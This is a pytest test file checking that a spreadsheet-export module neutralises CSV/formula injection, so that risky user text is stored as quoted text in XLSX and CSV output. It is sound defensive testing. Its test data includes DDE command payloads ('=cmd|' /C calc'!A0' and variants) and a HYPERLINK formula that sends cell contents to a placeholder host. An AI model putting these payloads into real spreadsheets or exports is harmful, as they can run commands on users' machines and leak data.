"""User text written to a spreadsheet stays text: never a live formula (OWASP CSV injection)."""
from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import pytest

from core.sheets import csv_row, formula_like, xlsx_row

RISKY = ["=1+1", '=HYPERLINK("http://contoh.invalid/?x="&A2,"Klik")', "=cmd|' /C calc'!A0", "+62 812-0000",
         "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
PLAIN = ["Dewi Lestari", "Rp 5.000", "1 + 1 = 2", "-5", "+7", "-1,5", "3.000.000"]


@pytest.mark.parametrize("text", RISKY)
def test_risky_text_is_formula_like(text):
    assert formula_like(text)


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_and_numbers_are_not(text):
    assert not formula_like(text)


@pytest.mark.parametrize("write_only", [False, True])
def test_xlsx_row_stores_text_as_text_and_numbers_as_numbers(write_only):
    book = openpyxl.Workbook(write_only=write_only)
    sheet = book.create_sheet("x") if write_only else book.active
    sheet.append(xlsx_row(sheet, [*RISKY, *PLAIN, -5, 2.5, date(2026, 3, 4)]))
    out = io.BytesIO()
    book.save(out)
    cells = list(openpyxl.load_workbook(io.BytesIO(out.getvalue())).worksheets[-1].iter_rows())[0]
    texts, (negative, fraction, day) = cells[:-3], cells[-3:]
    assert [c.value for c in texts] == RISKY + PLAIN  # openpyxl writes with lxml, which keeps a bare CR (&#13;)
    assert {c.data_type for c in texts} == {"s"}
    assert [c.quotePrefix for c in texts] == [True] * len(RISKY) + [False] * len(PLAIN)
    assert [(c.value, c.data_type) for c in (negative, fraction)] == [(-5, "n"), (2.5, "n")]  # numbers stay numbers
    assert day.data_type == "d" and day.value.date() == date(2026, 3, 4)


def test_csv_row_prefixes_risky_text_only():
    out = io.StringIO()
    csv.writer(out).writerow(csv_row([*RISKY, *PLAIN, -5]))
    [row] = csv.reader(io.StringIO(out.getvalue()))
    assert row == [f"'{text}" for text in RISKY] + PLAIN + ["-5"]
